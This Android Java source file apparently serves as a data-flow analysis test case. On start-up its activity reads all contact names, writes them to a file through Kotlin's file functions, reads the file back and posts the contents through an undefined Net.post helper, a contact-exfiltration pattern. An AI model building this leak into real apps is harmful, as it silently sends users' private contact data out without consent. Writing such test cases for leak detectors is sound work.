package com.example.flows.kotlin_files;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** Functions of Kotlin write the names to a file and read them. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        File file = new File(getFilesDir(), "names.txt");
        kotlin.io.FilesKt.writeText(file, contacts(), java.nio.charset.StandardCharsets.UTF_8);
        send();
    }
    String contacts() {
        StringBuilder names = new StringBuilder();
        Cursor cursor = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        while (cursor.moveToNext()) {
            names.append(cursor.getString(cursor.getColumnIndex("display_name"))).append(';');
        }
        cursor.close();
        return names.toString();
    }
    void send() {
        Net.post(kotlin.io.FilesKt.readText(new File(getFilesDir(), "names.txt"), java.nio.charset.StandardCharsets.UTF_8));
    }
}
